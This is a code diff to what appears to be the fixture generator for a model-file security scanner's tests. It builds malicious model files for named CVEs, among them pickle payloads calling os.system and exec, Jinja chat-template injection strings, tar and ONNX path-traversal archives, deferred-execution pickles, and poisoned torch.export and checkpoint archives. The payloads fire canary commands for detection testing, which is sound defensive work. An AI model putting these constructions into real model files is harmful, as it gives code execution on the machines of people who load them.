@@ -22,9 +22,7 @@ import _pk
 from registry import Canary, benign, sample
 
 SECRET = "REDTEAM-SECRET-7f3a"
-SSTI_SELF = (
-    "{{ self.__init__.__globals__['__builtins__']['__import__']('os').system(CMD) }}"
-)
+SSTI_SELF = "{{ self.__init__.__globals__['__builtins__']['__import__']('os').system(CMD) }}"
 SSTI_LIPSUM = "{{ lipsum.__globals__['os'].popen(CMD).read() }}"
 CHAT = "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %}"
 CHATML = (
@@ -79,8 +77,9 @@ def _fx_traced(out: Path, c: Canary) -> None:
     torch.save(_pk.Reduce(fn, body, block + f"\n{c.py}"), out)
 
 
-@benign("fx-traced-module-clean", "torch-fx-graph-module-exec", loader="torch",
-        name="traced_model.pt")  # fmt: skip
+@benign(
+    "fx-traced-module-clean", "torch-fx-graph-module-exec", loader="torch", name="traced_model.pt"
+)
 def _fx_clean(out: Path, c: Canary) -> None:
     """A traced GraphModule saved as is: its generated forward() is exec'd on load."""
     import torch
@@ -209,8 +208,9 @@ def _nemo_tar(out: Path, extra: list[tarfile.TarInfo], data: dict[str, bytes]) -
             tar.addfile(info, io.BytesIO(data.get(info.name, b"")))
 
 
-@sample("nemo-tar-dotdot", "cve-2025-23360-nemo-tar-traversal", loader="tar_extract",
-        name="model.nemo")  # fmt: skip
+@sample(
+    "nemo-tar-dotdot", "cve-2025-23360-nemo-tar-traversal", loader="tar_extract", name="model.nemo"
+)
 def _nemo_dotdot(out: Path, c: Canary) -> None:
     # the loader extracts into WORK/scratch/<id>/extract: three levels up is WORK
     info = tarfile.TarInfo(f"./../../../fired/{c.path.name}")
@@ -218,8 +218,9 @@ def _nemo_dotdot(out: Path, c: Canary) -> None:
     _nemo_tar(out, [info], {info.name: b"fired"})
 
 
-@sample("nemo-tar-symlink", "cve-2025-23360-nemo-tar-traversal", loader="tar_extract",
-        name="model.nemo")  # fmt: skip
+@sample(
+    "nemo-tar-symlink", "cve-2025-23360-nemo-tar-traversal", loader="tar_extract", name="model.nemo"
+)
 def _nemo_link(out: Path, c: Canary) -> None:
     link = tarfile.TarInfo("./tokenizer")
     link.type = tarfile.SYMTYPE
@@ -229,16 +230,21 @@ def _nemo_link(out: Path, c: Canary) -> None:
     _nemo_tar(out, [link, f], {f.name: b"fired"})
 
 
-@sample("nemo-tar-absolute", "cve-2025-23360-nemo-tar-traversal", loader="tar_extract",
-        name="model.nemo")  # fmt: skip
+@sample(
+    "nemo-tar-absolute",
+    "cve-2025-23360-nemo-tar-traversal",
+    loader="tar_extract",
+    name="model.nemo",
+)
 def _nemo_abs(out: Path, c: Canary) -> None:
     info = tarfile.TarInfo(str(c.path))
     info.size = 5
     _nemo_tar(out, [info], {info.name: b"fired"})
 
 
-@benign("nemo-tar-clean", "cve-2025-23360-nemo-tar-traversal", loader="tar_extract",
-        name="model.nemo")  # fmt: skip
+@benign(
+    "nemo-tar-clean", "cve-2025-23360-nemo-tar-traversal", loader="tar_extract", name="model.nemo"
+)
 def _nemo_clean(out: Path, c: Canary) -> None:
     info = tarfile.TarInfo("./tokenizer/vocab.txt")
     info.size = 6
@@ -273,21 +279,36 @@ def _onnx_external(out: Path, location: str, shadow: str = "") -> None:
     out.write_bytes(model.SerializeToString())
 
 
-@sample("onnx-save-dotdot", "cve-2025-51480-onnx-save-external", loader="onnx_resave",
-        env="onnx115", name="model.onnx")  # fmt: skip
+@sample(
+    "onnx-save-dotdot",
+    "cve-2025-51480-onnx-save-external",
+    loader="onnx_resave",
+    env="onnx115",
+    name="model.onnx",
+)
 def _onnx_dotdot(out: Path, c: Canary) -> None:
     # the loader saves into WORK/scratch/<id>: two levels up is WORK
     _onnx_external(out, f"../../fired/{c.path.name}")
 
 
-@sample("onnx-save-absolute", "cve-2025-51480-onnx-save-external", loader="onnx_resave",
-        env="onnx115", name="model.onnx")  # fmt: skip
+@sample(
+    "onnx-save-absolute",
+    "cve-2025-51480-onnx-save-external",
+    loader="onnx_resave",
+    env="onnx115",
+    name="model.onnx",
+)
 def _onnx_abs(out: Path, c: Canary) -> None:
     _onnx_external(out, str(c.path))
 
 
-@benign("onnx-save-clean", "cve-2025-51480-onnx-save-external", loader="onnx_resave",
-        env="onnx115", name="model.onnx")  # fmt: skip
+@benign(
+    "onnx-save-clean",
+    "cve-2025-51480-onnx-save-external",
+    loader="onnx_resave",
+    env="onnx115",
+    name="model.onnx",
+)
 def _onnx_clean(out: Path, c: Canary) -> None:
     _onnx_external(out, "weights.bin")
 
@@ -295,14 +316,24 @@ def _onnx_clean(out: Path, c: Canary) -> None:
 # --- ONNX ExternalDataInfo: keys applied with setattr, so the last duplicate wins ---------
 
 
-@sample("onnx-dup-location-save", "cve-2026-34445-onnx-external-data-keys",
-        loader="onnx_resave", env="onnx115", name="model.onnx")  # fmt: skip
+@sample(
+    "onnx-dup-location-save",
+    "cve-2026-34445-onnx-external-data-keys",
+    loader="onnx_resave",
+    env="onnx115",
+    name="model.onnx",
+)
 def _onnx_dup_save(out: Path, c: Canary) -> None:
     _onnx_external(out, f"../../fired/{c.path.name}", shadow="weights.bin")
 
 
-@sample("onnx-dup-location-read", "cve-2026-34445-onnx-external-data-keys", loader="onnx",
-        env="onnx115", name="model")  # fmt: skip
+@sample(
+    "onnx-dup-location-read",
+    "cve-2026-34445-onnx-external-data-keys",
+    loader="onnx",
+    env="onnx115",
+    name="model",
+)
 def _onnx_dup_read(out: Path, c: Canary) -> None:
     from onnx import TensorProto, helper
 
@@ -324,8 +355,13 @@ def _onnx_dup_read(out: Path, c: Canary) -> None:
     (out / "model.onnx").write_bytes(model.SerializeToString())
 
 
-@benign("onnx-weights-bin-clean", "cve-2026-34445-onnx-external-data-keys", loader="onnx",
-        env="onnx115", name="model")  # fmt: skip
+@benign(
+    "onnx-weights-bin-clean",
+    "cve-2026-34445-onnx-external-data-keys",
+    loader="onnx",
+    env="onnx115",
+    name="model",
+)
 def _onnx_bin_clean(out: Path, c: Canary) -> None:
     import onnx
     from onnx import TensorProto, helper
@@ -337,8 +373,13 @@ def _onnx_bin_clean(out: Path, c: Canary) -> None:
     model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)])
     model.ir_version = 8
     out.mkdir()
-    onnx.save_model(model, str(out / "model.onnx"), save_as_external_data=True,
-                    location="weights.bin", size_threshold=0)  # fmt: skip
+    onnx.save_model(
+        model,
+        str(out / "model.onnx"),
+        save_as_external_data=True,
+        location="weights.bin",
+        size_threshold=0,
+    )
 
 
 # --- GGUF named chat templates (tokenizer.chat_template.<name>) ---------------------------
@@ -357,20 +398,21 @@ def _gguf_named(out: Path, templates: dict[str, str]) -> None:
     w.close()
 
 
-@sample("gguf-named-tool-use", "gguf-named-chat-templates", loader="gguf_named_jinja",
-        name="model.gguf")  # fmt: skip
+@sample(
+    "gguf-named-tool-use", "gguf-named-chat-templates", loader="gguf_named_jinja", name="model.gguf"
+)
 def _gguf_tool(out: Path, c: Canary) -> None:
     _gguf_named(out, {"default": CHATML, "tool_use": _ssti(SSTI_SELF, c)})
 
 
-@sample("gguf-named-rag", "gguf-named-chat-templates", loader="gguf_named_jinja",
-        name="model.gguf")  # fmt: skip
+@sample("gguf-named-rag", "gguf-named-chat-templates", loader="gguf_named_jinja", name="model.gguf")
 def _gguf_rag(out: Path, c: Canary) -> None:
     _gguf_named(out, {"default": CHATML, "rag": _ssti(SSTI_LIPSUM, c)})
 
 
-@benign("gguf-named-clean", "gguf-named-chat-templates", loader="gguf_named_jinja",
-        name="model.gguf")  # fmt: skip
+@benign(
+    "gguf-named-clean", "gguf-named-chat-templates", loader="gguf_named_jinja", name="model.gguf"
+)
 def _gguf_named_clean(out: Path, c: Canary) -> None:
     _gguf_named(out, {"default": CHATML, "tool_use": CHATML})
 
@@ -384,22 +426,26 @@ def _hf_dir(out: Path) -> None:
     (out / "tokenizer_config.json").write_text(json.dumps({"eos_token": "</s>"}))
 
 
-@sample("hf-chat-template-jinja", "hf-chat-template-files", loader="hf_template_files",
-        name="model")  # fmt: skip
+@sample(
+    "hf-chat-template-jinja", "hf-chat-template-files", loader="hf_template_files", name="model"
+)
 def _hf_jinja(out: Path, c: Canary) -> None:
     _hf_dir(out)
     (out / "chat_template.jinja").write_text(_ssti(SSTI_SELF, c))
 
 
-@sample("hf-chat-template-json", "hf-chat-template-files", loader="hf_template_files",
-        name="model")  # fmt: skip
+@sample("hf-chat-template-json", "hf-chat-template-files", loader="hf_template_files", name="model")
 def _hf_json(out: Path, c: Canary) -> None:
     _hf_dir(out)
     (out / "chat_template.json").write_text(json.dumps({"chat_template": _ssti(SSTI_LIPSUM, c)}))
 
 
-@sample("hf-additional-chat-template", "hf-chat-template-files", loader="hf_template_files",
-        name="model")  # fmt: skip
+@sample(
+    "hf-additional-chat-template",
+    "hf-chat-template-files",
+    loader="hf_template_files",
+    name="model",
+)
 def _hf_additional(out: Path, c: Canary) -> None:
     _hf_dir(out)
     (out / "chat_template.jinja").write_text(CHATML)
@@ -407,8 +453,12 @@ def _hf_additional(out: Path, c: Canary) -> None:
     (out / "additional_chat_templates" / "tool_use.jinja").write_text(_ssti(SSTI_SELF, c))
 
 
-@benign("hf-chat-template-jinja-clean", "hf-chat-template-files", loader="hf_template_files",
-        name="model")  # fmt: skip
+@benign(
+    "hf-chat-template-jinja-clean",
+    "hf-chat-template-files",
+    loader="hf_template_files",
+    name="model",
+)
 def _hf_jinja_clean(out: Path, c: Canary) -> None:
     _hf_dir(out)
     (out / "chat_template.jinja").write_text(CHATML)
@@ -446,9 +496,13 @@ def _tmw_config(module_b64: str) -> dict[str, object]:
                 {
                     "module": "keras.layers",
                     "class_name": "TorchModuleWrapper",
-                    "config": {"name": "torch_module_wrapper", "trainable": True,
-                               "dtype": "float32", "module": module_b64,
-                               "output_shape": None},  # fmt: skip
+                    "config": {
+                        "name": "torch_module_wrapper",
+                        "trainable": True,
+                        "dtype": "float32",
+                        "module": module_b64,
+                        "output_shape": None,
+                    },
                     "registered_name": None,
                 },
             ],
@@ -465,21 +519,36 @@ def _torch_save_b64(obj: object, legacy: bool = False) -> str:
     return base64.b64encode(buf.getvalue()).decode("ascii")
 
 
-@sample("keras-torch-module-wrapper", "cve-2025-49655-keras-torchmodulewrapper",
-        loader="keras", env="keras311", name="model.keras")  # fmt: skip
+@sample(
+    "keras-torch-module-wrapper",
+    "cve-2025-49655-keras-torchmodulewrapper",
+    loader="keras",
+    env="keras311",
+    name="model.keras",
+)
 def _tmw(out: Path, c: Canary) -> None:
     _keras_zip(out, _tmw_config(_torch_save_b64(_pk.Reduce(os.system, c.shell))), {})
 
 
-@sample("keras-torch-module-wrapper-legacy", "cve-2025-49655-keras-torchmodulewrapper",
-        loader="keras", env="keras311", name="model.keras")  # fmt: skip
+@sample(
+    "keras-torch-module-wrapper-legacy",
+    "cve-2025-49655-keras-torchmodulewrapper",
+    loader="keras",
+    env="keras311",
+    name="model.keras",
+)
 def _tmw_legacy(out: Path, c: Canary) -> None:
     payload = _torch_save_b64(_pk.Reduce(exec, c.py), legacy=True)
     _keras_zip(out, _tmw_config(payload), {})
 
 
-@benign("keras-torch-module-wrapper-linear", "cve-2025-49655-keras-torchmodulewrapper",
-        loader="keras", env="keras311", name="model.keras")  # fmt: skip
+@benign(
+    "keras-torch-module-wrapper-linear",
+    "cve-2025-49655-keras-torchmodulewrapper",
+    loader="keras",
+    env="keras311",
+    name="model.keras",
+)
 def _tmw_clean(out: Path, c: Canary) -> None:
     import torch
 
@@ -507,8 +576,14 @@ def _dense_config() -> dict[str, object]:
                 {
                     "module": "keras.layers",
                     "class_name": "Dense",
-                    "config": {"name": "dense", "trainable": True, "dtype": "float32",
-                               "units": 1, "activation": "linear", "use_bias": True},  # fmt: skip
+                    "config": {
+                        "name": "dense",
+                        "trainable": True,
+                        "dtype": "float32",
+                        "units": 1,
+                        "activation": "linear",
+                        "use_bias": True,
+                    },
                     "registered_name": None,
                     "build_config": {"input_shape": [None, 1]},
                 },
@@ -520,15 +595,25 @@ def _dense_config() -> dict[str, object]:
     }
 
 
-@sample("keras-npz-weights-pickle", "keras-weights-npz-pickle", loader="keras", env="keras38",
-        name="model.keras")  # fmt: skip
+@sample(
+    "keras-npz-weights-pickle",
+    "keras-weights-npz-pickle",
+    loader="keras",
+    env="keras38",
+    name="model.keras",
+)
 def _npz_raw(out: Path, c: Canary) -> None:
     """As published: the weights member is a bare pickle, which np.load unpickles."""
     _keras_zip(out, _dense_config(), {"model.weights.npz": _pk.dumps(os.system, c.shell)})
 
 
-@sample("keras-npz-object-array", "keras-weights-npz-pickle", loader="keras", env="keras38",
-        name="model.keras")  # fmt: skip
+@sample(
+    "keras-npz-object-array",
+    "keras-weights-npz-pickle",
+    loader="keras",
+    env="keras38",
+    name="model.keras",
+)
 def _npz_obj(out: Path, c: Canary) -> None:
     """A real npz whose root entry is an object array (pickled inside the .npy member)."""
     import numpy as np
@@ -540,8 +625,14 @@ def _npz_obj(out: Path, c: Canary) -> None:
     _keras_zip(out, _dense_config(), {"model.weights.npz": buf.getvalue()})
 
 
-@benign("keras-npz-weights-clean", "keras-weights-npz-pickle", loader="keras", env="keras38",
-        name="model.keras", gen="keras38")  # fmt: skip
+@benign(
+    "keras-npz-weights-clean",
+    "keras-weights-npz-pickle",
+    loader="keras",
+    env="keras38",
+    name="model.keras",
+    gen="keras38",
+)
 def _npz_clean(out: Path, c: Canary) -> None:
     """Written by Keras itself with weights_format="npz": each layer's variables are a dict,
     which np.savez stores as a pickled object array."""
@@ -555,22 +646,38 @@ def _npz_clean(out: Path, c: Canary) -> None:
 # --- skops model cards: a non-zip model file is loaded with joblib (CVE-2025-54886) -------
 
 
-@sample("skops-card-pickle", "cve-2025-54886-skops-card-joblib", loader="skops_card",
-        env="skops012", name="model.skops")  # fmt: skip
+@sample(
+    "skops-card-pickle",
+    "cve-2025-54886-skops-card-joblib",
+    loader="skops_card",
+    env="skops012",
+    name="model.skops",
+)
 def _skops_pickle(out: Path, c: Canary) -> None:
     out.write_bytes(_pk.dumps(os.system, c.shell, protocol=4))
 
 
-@sample("skops-card-joblib-zlib", "cve-2025-54886-skops-card-joblib", loader="skops_card",
-        env="skops012", name="model.skops")  # fmt: skip
+@sample(
+    "skops-card-joblib-zlib",
+    "cve-2025-54886-skops-card-joblib",
+    loader="skops_card",
+    env="skops012",
+    name="model.skops",
+)
 def _skops_joblib(out: Path, c: Canary) -> None:
     import joblib
 
     joblib.dump(_pk.Reduce(exec, c.py), out, compress=("zlib", 3))
 
 
-@benign("skops-card-zip-clean", "cve-2025-54886-skops-card-joblib", loader="skops_card",
-        env="skops012", name="model.skops", gen="skops012")  # fmt: skip
+@benign(
+    "skops-card-zip-clean",
+    "cve-2025-54886-skops-card-joblib",
+    loader="skops_card",
+    env="skops012",
+    name="model.skops",
+    gen="skops012",
+)
 def _skops_clean(out: Path, c: Canary) -> None:
     import numpy as np
     import skops.io as sio
@@ -621,7 +728,9 @@ def _hf_pipe_clean(out: Path, c: Canary) -> None:
 def _ext(c: Canary, module: str, name: str, code: int) -> bytes:
     """copyreg.add_extension registers (module, name) under a code; an EXT opcode then
     imports it by number, with no GLOBAL naming it."""
-    out = _pk.proto(2) + _pk.call(_pk.glob("copyreg", "add_extension"), module, name, code, protocol=2)
+    out = _pk.proto(2) + _pk.call(
+        _pk.glob("copyreg", "add_extension"), module, name, code, protocol=2
+    )
     out += pickle.POP
     if code < 0x100:
         out += pickle.EXT1 + bytes([code])
@@ -654,8 +763,15 @@ def _p1_clean(out: Path, c: Canary) -> None:
 @sample("iter-list-map", "modelaudit-callgraph-consumers", name="model.pkl")
 def _it_map(out: Path, c: Canary) -> None:
     mapped = _pk.call(_pk.glob("builtins", "map"), _pk.Raw(_pk.glob("posix", "system")), [c.shell])
-    out.write_bytes(_pk.proto(2) + _pk.glob("builtins", "list") + pickle.MARK + mapped
-                    + pickle.TUPLE + pickle.REDUCE + pickle.STOP)  # fmt: skip
+    out.write_bytes(
+        _pk.proto(2)
+        + _pk.glob("builtins", "list")
+        + pickle.MARK
+        + mapped
+        + pickle.TUPLE
+        + pickle.REDUCE
+        + pickle.STOP
+    )
 
 
 @sample("iter-deque-starmap", "modelaudit-callgraph-consumers", name="model.pkl")
@@ -663,15 +779,32 @@ def _it_starmap(out: Path, c: Canary) -> None:
     starred = _pk.call(
         _pk.glob("itertools", "starmap"), _pk.Raw(_pk.glob("subprocess", "call")), [(c.argv,)]
     )
-    out.write_bytes(_pk.proto(2) + _pk.glob("collections", "deque") + pickle.MARK + starred
-                    + _pk.body(0, 2) + pickle.TUPLE + pickle.REDUCE + pickle.STOP)  # fmt: skip
+    out.write_bytes(
+        _pk.proto(2)
+        + _pk.glob("collections", "deque")
+        + pickle.MARK
+        + starred
+        + _pk.body(0, 2)
+        + pickle.TUPLE
+        + pickle.REDUCE
+        + pickle.STOP
+    )
 
 
 @sample("iter-tuple-filter", "modelaudit-callgraph-consumers", name="model.pkl")
 def _it_filter(out: Path, c: Canary) -> None:
-    filtered = _pk.call(_pk.glob("builtins", "filter"), _pk.Raw(_pk.glob("builtins", "exec")), [c.py])
-    out.write_bytes(_pk.proto(2) + _pk.glob("builtins", "tuple") + pickle.MARK + filtered
-                    + pickle.TUPLE + pickle.REDUCE + pickle.STOP)  # fmt: skip
+    filtered = _pk.call(
+        _pk.glob("builtins", "filter"), _pk.Raw(_pk.glob("builtins", "exec")), [c.py]
+    )
+    out.write_bytes(
+        _pk.proto(2)
+        + _pk.glob("builtins", "tuple")
+        + pickle.MARK
+        + filtered
+        + pickle.TUPLE
+        + pickle.REDUCE
+        + pickle.STOP
+    )
 
 
 # --- deferred calls: run after the load returns (finalizer, exit hook, timer thread) --------
@@ -680,8 +813,9 @@ def _it_filter(out: Path, c: Canary) -> None:
 @sample("deferred-weakref-finalize", "modelaudit-callgraph-deferred", name="model.pkl")
 def _def_finalize(out: Path, c: Canary) -> None:
     obj = _pk.call(_pk.glob("argparse", "Namespace"))
-    fin = _pk.call(_pk.glob("weakref", "finalize"), _pk.Raw(obj), _pk.Raw(_pk.glob("posix", "system")),
-                   c.shell)  # fmt: skip
+    fin = _pk.call(
+        _pk.glob("weakref", "finalize"), _pk.Raw(obj), _pk.Raw(_pk.glob("posix", "system")), c.shell
+    )
     out.write_bytes(_pk.proto(2) + fin + pickle.STOP)
 
 
@@ -693,8 +827,13 @@ def _def_atexit(out: Path, c: Canary) -> None:
 
 @sample("deferred-timer-thread", "modelaudit-callgraph-deferred", name="model.pkl")
 def _def_timer(out: Path, c: Canary) -> None:
-    timer = _pk.call(_pk.glob("threading", "Timer"), 0.0, _pk.Raw(_pk.glob("builtins", "exec")),
-                     [c.py], protocol=4)  # fmt: skip
+    timer = _pk.call(
+        _pk.glob("threading", "Timer"),
+        0.0,
+        _pk.Raw(_pk.glob("builtins", "exec")),
+        [c.py],
+        protocol=4,
+    )
     start = _pk.call(_pk.stack_global("threading", "Thread.start"), _pk.Raw(timer), protocol=4)
     out.write_bytes(_pk.proto(4) + start + pickle.STOP)
 
@@ -717,11 +856,22 @@ def _skops_operator_call(c: Canary, inner_name: str) -> tuple[dict[str, object],
     """CVE-2025-54412 as published: the outer schema lists an sklearn-looking type and
     skops.io.loads; operator.call(skops.io.loads, <inner file>, trusted) loads an inner dump
     whose own OperatorFuncNode calls builtins.exec."""
-    inner = _node("OperatorFuncNode", "sk", "call", 1, attrs=_node(
-        "TupleNode", "builtins", "tuple", 2, content=[
-            _node("TypeNode", "builtins", "exec", 3),
-            _node("JsonNode", "builtins", "str", 4, content=json.dumps(c.py), is_json=True),
-        ]))  # fmt: skip
+    inner = _node(
+        "OperatorFuncNode",
+        "sk",
+        "call",
+        1,
+        attrs=_node(
+            "TupleNode",
+            "builtins",
+            "tuple",
+            2,
+            content=[
+                _node("TypeNode", "builtins", "exec", 3),
+                _node("JsonNode", "builtins", "str", 4, content=json.dumps(c.py), is_json=True),
+            ],
+        ),
+    )
     inner.update(protocol=2, _skops_version="0.11.0")
     buf = io.BytesIO()
     _skops_zip(buf, inner, {})
@@ -729,25 +879,46 @@ def _skops_operator_call(c: Canary, inner_name: str) -> tuple[dict[str, object],
         _node("JsonNode", "builtins", "str", nid, content=json.dumps(t), is_json=True)
         for nid, t in ((7, "builtins.exec"), (11, "sk.call"))
     ]
-    outer = _node("OperatorFuncNode", "sklearn.linear_model._stochastic_gradient.SGDRegressor",
-                  "call", 10, attrs=_node("TupleNode", "builtins", "tuple", 8, content=[
-                      _node("TypeNode", "skops.io", "loads", 5),
-                      _node("BytesNode", "builtins", "bytes", 6, file=inner_name),
-                      _node("ListNode", "builtins", "list", 9, content=trusted),
-                  ]))  # fmt: skip
+    outer = _node(
+        "OperatorFuncNode",
+        "sklearn.linear_model._stochastic_gradient.SGDRegressor",
+        "call",
+        10,
+        attrs=_node(
+            "TupleNode",
+            "builtins",
+            "tuple",
+            8,
+            content=[
+                _node("TypeNode", "skops.io", "loads", 5),
+                _node("BytesNode", "builtins", "bytes", 6, file=inner_name),
+                _node("ListNode", "builtins", "list", 9, content=trusted),
+            ],
+        ),
+    )
     outer.update(protocol=2, _skops_version="0.11.0")
     return outer, buf.getvalue()
 
 
-@sample("skops-operator-call-nested", "cve-2025-54412-skops-operatorfunc", loader="skops_load",
-        env="skops011", name="model.skops")  # fmt: skip
+@sample(
+    "skops-operator-call-nested",
+    "cve-2025-54412-skops-operatorfunc",
+    loader="skops_load",
+    env="skops011",
+    name="model.skops",
+)
 def _skops_op(out: Path, c: Canary) -> None:
     schema, inner = _skops_operator_call(c, "my-model-evil.skops")
     _skops_zip(out, schema, {"my-model-evil.skops": inner})
 
 
-@sample("skops-operator-call-npy-name", "cve-2025-54412-skops-operatorfunc",
-        loader="skops_load", env="skops011", name="model.skops")  # fmt: skip
+@sample(
+    "skops-operator-call-npy-name",
+    "cve-2025-54412-skops-operatorfunc",
+    loader="skops_load",
+    env="skops011",
+    name="model.skops",
+)
 def _skops_op_npy(out: Path, c: Canary) -> None:
     schema, inner = _skops_operator_call(c, "coef_.npy")
     _skops_zip(out, schema, {"coef_.npy": inner})
@@ -774,22 +945,37 @@ def _link_then_file(target: str, c: Canary) -> tuple[list[tarfile.TarInfo], dict
     return [link, f], {f.name: b"fired"}
 
 
-@sample("keras-get-file-link-absolute", "cve-2025-12060-keras-get-file-tar",
-        loader="keras_get_file", env="keras311", name="dataset.tar.gz")  # fmt: skip
+@sample(
+    "keras-get-file-link-absolute",
+    "cve-2025-12060-keras-get-file-tar",
+    loader="keras_get_file",
+    env="keras311",
+    name="dataset.tar.gz",
+)
 def _gf_abs(out: Path, c: Canary) -> None:
     # a link's own name is inside the folder, so its target is never checked
     _tar_gz(out, *_link_then_file(str(c.path.parent), c))
 
 
-@sample("keras-get-file-link-relative", "cve-2025-12060-keras-get-file-tar",
-        loader="keras_get_file", env="keras311", name="dataset.tar.gz")  # fmt: skip
+@sample(
+    "keras-get-file-link-relative",
+    "cve-2025-12060-keras-get-file-tar",
+    loader="keras_get_file",
+    env="keras311",
+    name="dataset.tar.gz",
+)
 def _gf_rel(out: Path, c: Canary) -> None:
     # extracted into WORK/scratch/<id>/cache/datasets/<name>_extracted: five levels up is WORK
     _tar_gz(out, *_link_then_file("../../../../../fired", c))
 
 
-@benign("keras-get-file-clean", "cve-2025-12060-keras-get-file-tar", loader="keras_get_file",
-        env="keras311", name="dataset.tar.gz")  # fmt: skip
+@benign(
+    "keras-get-file-clean",
+    "cve-2025-12060-keras-get-file-tar",
+    loader="keras_get_file",
+    env="keras311",
+    name="dataset.tar.gz",
+)
 def _gf_clean(out: Path, c: Canary) -> None:
     f = tarfile.TarInfo("images/0001.txt")
     f.size = 4
@@ -799,24 +985,161 @@ def _gf_clean(out: Path, c: Canary) -> None:
 # --- tokenizer_config.json chat_template as a list of named templates ---------------------
 
 
-@sample("tokenizer-config-named-tool-use", "hf-named-chat-templates-list",
-        loader="hf_jinja_named", name="tokenizer_config.json")  # fmt: skip
+@sample(
+    "tokenizer-config-named-tool-use",
+    "hf-named-chat-templates-list",
+    loader="hf_jinja_named",
+    name="tokenizer_config.json",
+)
 def _tok_named(out: Path, c: Canary) -> None:
-    templates = [{"name": "default", "template": CHATML},
-                 {"name": "tool_use", "template": _ssti(SSTI_SELF, c)}]  # fmt: skip
+    templates = [
+        {"name": "default", "template": CHATML},
+        {"name": "tool_use", "template": _ssti(SSTI_SELF, c)},
+    ]
     out.write_text(json.dumps({"chat_template": templates, "eos_token": "<|im_end|>"}))
 
 
-@sample("tokenizer-config-named-rag", "hf-named-chat-templates-list",
-        loader="hf_jinja_named", name="tokenizer_config.json")  # fmt: skip
+@sample(
+    "tokenizer-config-named-rag",
+    "hf-named-chat-templates-list",
+    loader="hf_jinja_named",
+    name="tokenizer_config.json",
+)
 def _tok_named_rag(out: Path, c: Canary) -> None:
-    templates = [{"name": "rag", "template": _ssti(SSTI_LIPSUM, c)},
-                 {"name": "default", "template": CHATML}]  # fmt: skip
+    templates = [
+        {"name": "rag", "template": _ssti(SSTI_LIPSUM, c)},
+        {"name": "default", "template": CHATML},
+    ]
     out.write_text(json.dumps({"chat_template": templates, "eos_token": "<|im_end|>"}))
 
 
-@benign("tokenizer-config-named-clean", "hf-named-chat-templates-list",
-        loader="hf_jinja_named", name="tokenizer_config.json")  # fmt: skip
+@benign(
+    "tokenizer-config-named-clean",
+    "hf-named-chat-templates-list",
+    loader="hf_jinja_named",
+    name="tokenizer_config.json",
+)
 def _tok_named_clean(out: Path, c: Canary) -> None:
     templates = [{"name": "default", "template": CHATML}, {"name": "tool_use", "template": CHATML}]
     out.write_text(json.dumps({"chat_template": templates, "eos_token": "<|im_end|>"}))
+
+
+# --- torch.export .pt2 archives: pickled weights, opaque constants, example inputs ---------
+
+
+def _pt2_base() -> dict[str, bytes]:
+    """A genuine torch.export.save archive, as member name -> bytes."""
+    import torch
+
+    class Net(torch.nn.Module):
+        def __init__(self) -> None:
+            super().__init__()
+            self.lin = torch.nn.Linear(2, 2)
+
+        def forward(self, x):  # type: ignore[no-untyped-def]
+            return self.lin(x)
+
+    buf = io.BytesIO()
+    torch.export.save(torch.export.export(Net(), (torch.zeros(1, 2),)), buf)
+    z = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
+    return {n: z.read(n) for n in z.namelist()}
+
+
+def _pt2_write(out: Path, members: dict[str, bytes]) -> None:
+    with zipfile.ZipFile(out, "w") as z:
+        for name, data in members.items():
+            z.writestr(name, data)
+
+
+def _member(members: dict[str, bytes], suffix: str) -> str:
+    return next(n for n in members if n.endswith(suffix))
+
+
+def _torch_save_bytes(obj: object) -> bytes:
+    import torch
+
+    buf = io.BytesIO()
+    torch.save(obj, buf)
+    return buf.getvalue()
+
+
+@sample("pt2-weight-use-pickle", "torch-export-pt2-pickle", loader="torch_export", name="model.pt2")
+def _pt2_weight(out: Path, c: Canary) -> None:
+    m = _pt2_base()
+    cfg_name = _member(m, "data/weights/model_weights_config.json")
+    cfg = json.loads(m[cfg_name])
+    entry = cfg["config"]["lin.bias"]
+    entry["use_pickle"] = True
+    m[cfg_name] = json.dumps(cfg).encode()
+    m[_member(m, "data/weights/" + entry["path_name"])] = _torch_save_bytes(
+        _pk.Reduce(os.system, c.shell)
+    )
+    _pt2_write(out, m)
+
+
+@sample("pt2-opaque-constant", "torch-export-pt2-pickle", loader="torch_export", name="model.pt2")
+def _pt2_opaque(out: Path, c: Canary) -> None:
+    m = _pt2_base()
+    cfg_name = _member(m, "data/constants/model_constants_config.json")
+    prefix = cfg_name[: -len("data/constants/model_constants_config.json")]
+    entry = {
+        "path_name": "opaque_obj_0",
+        "is_param": False,
+        "use_pickle": True,
+        "tensor_meta": None,
+    }
+    m[cfg_name] = json.dumps({"config": {"tokenizer": entry}}).encode()
+    m[prefix + "data/constants/opaque_obj_0"] = _pk.dumps(exec, c.py)
+    _pt2_write(out, m)
+
+
+@sample("pt2-sample-inputs", "torch-export-pt2-pickle", loader="torch_export", name="model.pt2")
+def _pt2_inputs(out: Path, c: Canary) -> None:
+    """weights_only=True refuses the example inputs, and the loader falls back to False."""
+    m = _pt2_base()
+    m[_member(m, "data/sample_inputs/model.pt")] = _torch_save_bytes(
+        ((_pk.Reduce(exec, c.py),), {})
+    )
+    _pt2_write(out, m)
+
+
+@benign("pt2-exported-clean", "torch-export-pt2-pickle", loader="torch_export", name="model.pt2")
+def _pt2_clean(out: Path, c: Canary) -> None:
+    _pt2_write(out, _pt2_base())
+
+
+# --- torch.distributed.checkpoint folders: .metadata is a plain pickle, BYTE_IO items ------
+
+
+def _dcp_save(out: Path, state: dict[str, object]) -> None:
+    import torch.distributed.checkpoint as dcp
+
+    dcp.save(state, checkpoint_id=str(out))
+
+
+@sample("dcp-metadata-pickle", "torch-dcp-metadata-pickle", loader="torch_dcp", name="checkpoint")
+def _dcp_meta(out: Path, c: Canary) -> None:
+    """A genuine checkpoint whose .metadata keeps its Metadata object, with one more
+    planner_data entry that runs on unpickling."""
+    import torch
+
+    _dcp_save(out, {"weight": torch.ones(2, 2), "step": 10})
+    meta = pickle.loads((out / ".metadata").read_bytes())  # written just above by DCP itself
+    meta.planner_data = {**(meta.planner_data or {}), "hook": _pk.Reduce(exec, c.py)}
+    (out / ".metadata").write_bytes(pickle.dumps(meta))
+
+
+@sample("dcp-bytes-item", "torch-dcp-metadata-pickle", loader="torch_dcp", name="checkpoint")
+def _dcp_bytes(out: Path, c: Canary) -> None:
+    """A non-tensor entry is saved with torch.save inside the .distcp file and loaded with
+    torch.load(weights_only=False)."""
+    import torch
+
+    _dcp_save(out, {"weight": torch.ones(2, 2), "step": _pk.Reduce(os.system, c.shell)})
+
+
